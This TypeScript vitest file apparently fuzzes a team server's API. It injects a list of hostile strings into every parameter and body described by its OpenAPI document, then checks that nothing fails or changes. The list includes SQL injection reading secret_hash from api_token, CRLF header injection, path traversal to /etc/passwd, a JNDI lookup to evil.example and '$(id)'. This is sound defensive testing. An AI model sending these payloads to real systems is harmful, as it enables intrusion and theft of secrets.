import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
	type PostgresFixture,
	startPostgres,
} from "../../../../adapters/src/postgres/postgres-fixture.ts";
import {
	ORIGIN,
	PROJECTS,
	type TeamServerFixture,
	teamServerFixture,
} from "./team-server-fixture.ts";

/** Texts that mean something to SQL, to logs, to shells and flags, to paths and to templates. */
const PAYLOADS = [
	"'; drop table project; --",
	`" or "1"="1`,
	"\\'; select pg_sleep(9); -- ' union select secret_hash from api_token --",
	"a\r\nset-cookie: assay.session_token=x\r\n2026-01-01 admin@example.org signed-in",
	"a\u0000b",
	"\u001b[2J\u2028\u202e\ud800",
	"--config=/etc/passwd",
	"../../../etc/passwd ${jndi:ldap://evil.example/a} {{7*7}} $(id)",
	"__proto__",
];

interface Schema {
	readonly $ref?: string;
	readonly type?: string;
	readonly enum?: readonly unknown[];
	readonly const?: unknown;
	readonly anyOf?: readonly Schema[];
	readonly oneOf?: readonly Schema[];
	readonly allOf?: readonly Schema[];
	readonly items?: Schema;
	readonly properties?: Readonly<Record<string, Schema>>;
}

interface Described {
	readonly parameters?: readonly {
		readonly name: string;
		readonly in: string;
		readonly schema: Schema;
	}[];
	readonly requestBody?: {
		readonly content: Readonly<Record<string, { readonly schema: Schema }>>;
	};
}

interface Document {
	readonly paths: Readonly<Record<string, Readonly<Record<string, Described>>>>;
	readonly components: { readonly schemas: Readonly<Record<string, Schema>> };
}

/** Operations that start a program of their own, a second each: the arguments of those are tested where they are made. */
const STARTS_PROGRAM =
	/health|test-call|export|^POST .*(runs|plan|fills|label-model|labeling\/(apply|suggest)|quality-models|curated-sets|fine-tunes|align)/;

let postgres: PostgresFixture;
let fixture: TeamServerFixture;
let document: Document;
let headers: Readonly<Record<string, string>>;

beforeAll(async () => {
	postgres = await startPostgres({ fsync: "off" });
	fixture = await teamServerFixture(postgres.url);
	const cookie = await fixture.signIn("operator@example.org");
	headers = { cookie, origin: ORIGIN, "content-type": "application/json" };
	document = await (await fixture.ask("/api/v1/openapi.json", { headers })).json();
}, 180_000);
afterAll(async () => {
	await fixture.remove();
	await postgres.stop();
});

/** A value of a schema in which every text is the payload. */
function sample(schema: Schema, payload: string, depth = 0): unknown {
	if (depth > 6) return payload;
	const again = (inner: Schema | undefined) => sample(inner ?? {}, payload, depth + 1);
	if (schema.$ref) return again(document.components.schemas[schema.$ref.split("/").at(-1) ?? ""]);
	const [choice] = schema.anyOf ?? schema.oneOf ?? schema.allOf ?? [];
	if (choice) return again(choice);
	const [fixed = schema.const] = schema.enum ?? [];
	return fixed ?? ofType(schema, payload, again);
}

function ofType(
	schema: Schema,
	payload: string,
	again: (inner: Schema | undefined) => unknown,
): unknown {
	switch (schema.type) {
		case "number":
		case "integer":
			return 1;
		case "boolean":
			return false;
		case "array":
			return [again(schema.items)];
		case "object":
			return Object.fromEntries(
				Object.entries(schema.properties ?? {}).map(([name, one]) => [name, again(one)]),
			);
		default:
			return payload;
	}
}

interface Attack {
	readonly method: string;
	readonly path: string;
	readonly body?: string;
}

/** The payload in each parameter alone, the others being plain, and in the whole body. */
function attacksOn(key: string, described: Described, payload: string): readonly Attack[] {
	const [method = "", path = ""] = key.split(" ");
	const parameters = (described.parameters ?? []).filter((one) => one.in !== "header");
	const body = described.requestBody?.content["application/json"]?.schema;
	const places = parameters.filter(({ name }) => name !== "project").map(({ name }) => name);
	const fill = (attacked: string | undefined): Attack => {
		const query = new URLSearchParams();
		let filled = path;
		for (const { in: where, name, schema } of parameters) {
			const isText = attacked === name && schema.enum === undefined;
			const plain = name === "project" ? PROJECTS.own : "1";
			const value = String(isText ? payload : sample(schema, plain));
			if (where === "path")
				filled = filled.replace(`{${name}}`, encodeURIComponent(value.toWellFormed()));
			else query.append(name, value);
		}
		return {
			method,
			path: query.size === 0 ? filled : `${filled}?${query}`,
			...(body && { body: JSON.stringify(sample(body, attacked ? "1" : payload)) }),
		};
	};
	return [...places.map(fill), ...(body ? [fill(undefined)] : [])];
}

describe("a text that means something to somebody else", () => {
	it("is a text to every operation: none fails, and nothing else changes", async () => {
		const before = await standing();
		const wrong: string[] = [];
		const attacks = Object.entries(document.paths).flatMap(([path, methods]) =>
			Object.entries(methods).flatMap(([method, described]) => {
				const key = `${method.toUpperCase()} ${path}`;
				if (STARTS_PROGRAM.test(key)) return [];
				return PAYLOADS.flatMap((payload) => attacksOn(key, described, payload));
			}),
		);
		const queue = [...attacks];
		const work = async () => {
			for (let attack = queue.pop(); attack; attack = queue.pop()) {
				const { body, method, path } = attack;
				const answer = await fixture.ask(path, { method, headers, ...(body && { body }) });
				const isStream = answer.headers.get("content-type")?.startsWith("text/event-stream");
				const text = isStream ? "" : await answer.text();
				if (isStream) await answer.body?.cancel();
				if (answer.status >= 500 || answer.headers.getSetCookie().length > 0)
					wrong.push(`${method} ${path} ${body ?? ""}: ${answer.status} ${text.slice(0, 300)}`);
			}
		};
		await Promise.all(Array.from({ length: 12 }, work));
		expect(attacks.length).toBeGreaterThan(2_000);
		expect(wrong.slice(0, 40)).toEqual([]);
		expect(await standing()).toEqual(before);
	}, 300_000);
});

/** What no request is about: the people, and the projects of others. */
async function standing(): Promise<unknown> {
	const { database, directory } = fixture;
	const store = await database.openProject(PROJECTS.other);
	const counts = await store.countStored();
	await store.close();
	return {
		counts,
		members: (await directory.listMembers(PROJECTS.own)).map(({ account, role }) => [
			account.email,
			role,
		]),
		projects: (await database.listProjects()).filter(({ name }) =>
			Object.values<string>(PROJECTS).includes(name),
		),
		tokens: await directory.listTokens(PROJECTS.other),
	};
}
